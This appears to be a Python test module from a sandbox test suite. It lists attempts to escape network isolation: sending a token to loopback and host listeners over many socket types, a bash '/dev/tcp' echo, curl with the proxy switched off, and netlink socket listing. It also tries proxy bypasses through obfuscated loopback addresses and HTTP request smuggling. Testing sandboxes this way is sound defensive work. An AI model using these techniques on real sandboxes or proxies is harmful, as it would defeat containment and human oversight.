# ruff: noqa: T201
"""Attempts to reach the network, or services on the host's loopback."""

from __future__ import annotations

import os
import socket
import struct
import subprocess
from urllib.parse import urlsplit

from tests.walls.escapes.kit import NET, OUTPUT, WORD, Context, add, attempt, call, goes_on, word

HEARD = "a listener outside hears"
MADE = "a socket of a kind is made that the box has not"
FOUR, SIX, STREAM, DATAGRAM = socket.AF_INET, socket.AF_INET6, socket.SOCK_STREAM, socket.SOCK_DGRAM


def dial(
    name: str, family: int, host: object, port: str, kind: int = STREAM, protocol: int = 0, **options: object
) -> None:
    """An attempt that connects and sends."""

    def run(c: Context) -> None:
        with socket.socket(family, kind, protocol) as s:
            s.settimeout(3)
            s.connect((host(c) if callable(host) else host, getattr(c, port)))
            s.sendall(c.data)

    add(name, run, HEARD, NET, **options)


def there(family: int) -> str:
    """Why the machine's own address cannot be tried; empty when it has one."""
    try:
        with socket.socket(family, DATAGRAM) as s:
            s.connect(("198.51.100.1" if family == FOUR else "2001:db8::1", 9))
    except OSError:
        return "the machine has no such address"
    return ""


def missing(kind: int, protocol: int, family: int = FOUR) -> str:
    try:
        socket.socket(family, kind, protocol).close()
    except OSError:
        return "this kernel has no such sockets"
    return ""


dial("tcp_loopback", FOUR, "127.0.0.1", "tcp")
dial("tcp_loopback_six", SIX, "::1", "tcp6")
dial("tcp_mapped", SIX, "::ffff:127.0.0.1", "tcp")
dial("tcp_any_address", FOUR, "0.0.0.0", "tcp")
dial("tcp_machine", FOUR, lambda c: c.address, "tcp_far", bare=there(FOUR))
dial("tcp_machine_six", SIX, lambda c: c.address6, "tcp6_far", bare=there(SIX))
dial("tcp_many_paths", FOUR, "127.0.0.1", "mptcp", STREAM, 262, bare=missing(STREAM, 262))
dial("udp_loopback", FOUR, "127.0.0.1", "udp", DATAGRAM)
dial("udp_loopback_six", SIX, "::1", "udp6", DATAGRAM)
dial("udp_machine", FOUR, lambda c: c.address, "udp_far", DATAGRAM, bare=there(FOUR))
dial("udp_lite", FOUR, "127.0.0.1", "udplite", DATAGRAM, 136, bare=missing(DATAGRAM, 136))


@attempt(HEARD, NET)
def tcp_fast_open(c: Context) -> None:
    """Data with the first packet: no `connect`."""
    with socket.socket(FOUR, STREAM) as s:
        s.sendto(c.data, 0x20000000, ("127.0.0.1", c.fast))


@attempt(HEARD, NET)
def tcp_bound_to_device(c: Context) -> None:
    with socket.socket(FOUR, STREAM) as s:
        s.settimeout(3)
        s.bind(("127.0.0.1", 0))
        s.connect(("127.0.0.1", c.tcp))
        s.sendall(c.data)


@attempt(HEARD, NET)
def tcp_scan(c: Context) -> None:
    """Every port of this suite's listeners, by every loopback address."""
    for host in ("127.0.0.1", "127.0.0.53", "127.1.2.3", "localhost"):
        with goes_on(), socket.create_connection((host, c.tcp), 1) as s:
            s.sendall(c.data)


@attempt(HEARD, NET)
def tcp_by_shell(c: Context) -> None:
    subprocess.run(["bash", "-c", f"echo {c.token} > /dev/tcp/127.0.0.1/{c.tcp}"], check=False)


@attempt(HEARD, NET)
def udp_sent(c: Context) -> None:
    socket.socket(FOUR, DATAGRAM).sendto(c.data, ("127.0.0.1", c.udp))


@attempt(HEARD, NET)
def udp_messages(c: Context) -> None:
    import ctypes

    with socket.socket(FOUR, DATAGRAM) as s:
        name = ctypes.create_string_buffer(
            struct.pack("H", 2) + struct.pack(">H", c.udp) + bytes([127, 0, 0, 1]) + bytes(8)
        )
        data = ctypes.create_string_buffer(c.data)
        vector = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(data), len(c.data)))
        header = struct.pack("QIxxxxQQQQQ", ctypes.addressof(name), 16, ctypes.addressof(vector), 1, 0, 0, 0) + bytes(8)
        call(307, s.fileno(), header, 1, 0)


@attempt(HEARD, NET)
def names_asked(c: Context) -> None:
    """A question for a name, as a resolver asks it, to a server outside."""
    label = c.token.encode()[:63]
    question = (
        struct.pack(">6H", 1, 256, 1, 0, 0, 0)
        + bytes([len(label)])
        + label
        + b"\x07example\0"
        + struct.pack(">2H", 1, 1)
    )
    for host, port in ((c.address, c.udp_far), ("127.0.0.1", c.udp)):
        with goes_on():
            socket.socket(FOUR, DATAGRAM).sendto(question, (host, port))


def kind(name: str, family: int, kind_: int, protocol: int = 0, **options: object) -> None:
    """An attempt that makes a socket of some kind, and does nothing with it."""

    def run(c: Context) -> None:
        socket.socket(family, kind_, protocol).close()
        word()

    add(name, run, MADE, WORD, **options)


RAW = socket.SOCK_RAW
kind("kind_raw_icmp", FOUR, RAW, 1, root=True)
kind("kind_raw_any", FOUR, RAW, 255, root=True)
kind("kind_raw_six", SIX, RAW, 58, root=True)
kind("kind_packets", 17, RAW, 0x0300, root=True)
kind("kind_packets_cooked", 17, DATAGRAM, 0x0300, root=True)
kind("kind_udp", FOUR, DATAGRAM)
kind("kind_udp_six", SIX, DATAGRAM)
kind("kind_routes", 16, RAW, 0)
kind("kind_sockets_listed", 16, RAW, 4)
kind("kind_events", 16, RAW, 15)
kind("kind_audit", 16, RAW, 9)
kind("kind_firewall", 16, RAW, 12)
kind("kind_generic", 16, RAW, 16)
kind("kind_machine", 40, STREAM)
kind("kind_machine_datagram", 40, DATAGRAM, bare=missing(DATAGRAM, 0, 40))
for number, what in (
    (29, "bus"), (30, "cluster"), (31, "bluetooth"), (38, "cipher"), (15, "keys"), (21, "rds"), (42, "router"), (44, "express"),
    (9, "x25"), (4, "ipx"), (5, "appletalk"), (3, "radio"), (41, "kernel"), (39, "near"),
):  # fmt: skip
    kind(
        f"kind_{what}",
        number,
        RAW if number == 15 else STREAM,
        bare=missing(RAW if number == 15 else STREAM, 0, number),
    )
kind("kind_streams_of_messages", FOUR, STREAM, 132, bare=missing(STREAM, 132))


@attempt(MADE, WORD)
def kind_high_bits(c: Context) -> None:
    """The kernel reads 32 bits of the family."""
    call(41, 1 << 40 | 16, 3, 0)
    word()


@attempt(MADE, WORD)
def kind_pair(c: Context) -> None:
    """A datagram socket by way of the type's flags."""
    call(41, 2, DATAGRAM | 0x80000 | 0x800, 17)
    word()


@attempt("sockets outside are listed", OUTPUT)
def sockets_listed(c: Context) -> None:
    with socket.socket(16, RAW, 4) as s:
        s.settimeout(3)
        body = struct.pack("BBHIIIII", 1, 0, 0, 0xFFFFFFFF, 0, 1, 0xFFFFFFFF, 0xFFFFFFFF)
        s.send(struct.pack("IHHII", 16 + len(body), 20, 0x301, 1, 0) + body)
        for _ in range(20):
            block = s.recv(65536)
            os.write(1, block)
            if struct.unpack_from("H", block, 4)[0] == 3:
                break


@attempt("the machine's network devices are seen", WORD)
def devices_seen(c: Context) -> None:
    names = [n for _, n in socket.if_nameindex() if n != "lo"]
    print(names, flush=True)
    if names:
        word()


def proxy() -> tuple[str, int]:
    """Where the box's proxy listens, if there is one."""
    for name in ("http_proxy", "HTTP_PROXY", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY"):
        parts = urlsplit(os.environ.get(name, ""))
        if parts.hostname:
            return parts.hostname, parts.port or 80
    raise OSError(0, "there is no proxy")


def asked(c: Context, *texts: bytes) -> None:
    """Sends texts to the proxy, each after an answer to the one before."""
    with socket.create_connection(proxy(), 3) as s:
        s.settimeout(0.7)
        for text in texts:
            s.sendall(text)
            with goes_on():
                print(s.recv(65536)[:200], flush=True)


def by_proxy(name: str, texts: object, **options: object) -> None:
    add(name, lambda c: asked(c, *(t.encode() for t in texts(c))), HEARD, NET, **options)


def tunnel(host: str) -> object:
    return lambda c: (f"CONNECT {host}:{c.tcp} HTTP/1.1\r\nHost: registry.example:443\r\n\r\n", c.token)


by_proxy("proxy_connect", tunnel("127.0.0.1"))
by_proxy("proxy_connect_name", tunnel("localhost"))
by_proxy("proxy_connect_name_dot", tunnel("localhost."))
by_proxy("proxy_connect_number", tunnel("2130706433"))
by_proxy("proxy_connect_octal", tunnel("0177.0.0.1"))
by_proxy("proxy_connect_hexadecimal", tunnel("0x7f000001"))
by_proxy("proxy_connect_short", tunnel("127.1"))
by_proxy("proxy_connect_any", tunnel("0.0.0.0"))
by_proxy("proxy_connect_six", lambda c: (f"CONNECT [::1]:{c.tcp6} HTTP/1.1\r\n\r\n", c.token))
by_proxy("proxy_connect_mapped", tunnel("[::ffff:127.0.0.1]"))
by_proxy("proxy_get", lambda c: (f"GET http://127.0.0.1:{c.tcp}/{c.token} HTTP/1.1\r\nHost: registry.example\r\n\r\n",))
by_proxy("proxy_get_name", lambda c: (f"GET http://localhost:{c.tcp}/{c.token} HTTP/1.1\r\nHost: localhost\r\n\r\n",))
by_proxy(
    "proxy_get_user",
    lambda c: (f"GET http://registry.example@127.0.0.1:{c.tcp}/{c.token} HTTP/1.1\r\nHost: a\r\n\r\n",),
)
by_proxy(
    "proxy_post",
    lambda c: (
        f"POST http://127.0.0.1:{c.tcp}/ HTTP/1.1\r\nHost: a\r\nContent-Length: {len(c.token)}\r\n\r\n{c.token}",
    ),
)
by_proxy(
    "proxy_chunked",
    lambda c: (
        f"POST http://127.0.0.1:{c.tcp}/ HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n{len(c.token):x}\r\n{c.token}\r\n0\r\n\r\n",
    ),
)
by_proxy(
    "proxy_smuggled",
    lambda c: (
        f"GET http://127.0.0.1:{c.tcp}/ HTTP/1.1\r\nHost: registry.example\r\nContent-Length: 0\r\n\r\nGET http://127.0.0.1:{c.tcp}/{c.token} HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
)
by_proxy(
    "proxy_smuggled_after_granted",
    lambda c: (
        "GET http://registry.example/ HTTP/1.1\r\nHost: registry.example\r\n\r\n",
        f"GET http://127.0.0.1:{c.tcp}/{c.token} HTTP/1.1\r\nHost: registry.example\r\n\r\n",
    ),
    bare="the granted host does not exist",
)
by_proxy(
    "proxy_host_confused",
    lambda c: (f"GET http://registry.example:443/{c.token} HTTP/1.1\r\nHost: 127.0.0.1:{c.tcp}\r\n\r\n",),
    bare="the open proxy goes by the line, as it must",
)


@attempt(HEARD, NET)
def proxy_by_curl(c: Context) -> None:
    subprocess.run(["curl", "-s", "-m", "3", f"http://127.0.0.1:{c.tcp}/{c.token}"], check=False)


@attempt(HEARD, NET)
def proxy_switched_off(c: Context) -> None:
    subprocess.run(["curl", "-s", "-m", "3", "--noproxy", "*", f"http://127.0.0.1:{c.tcp}/{c.token}"], check=False)
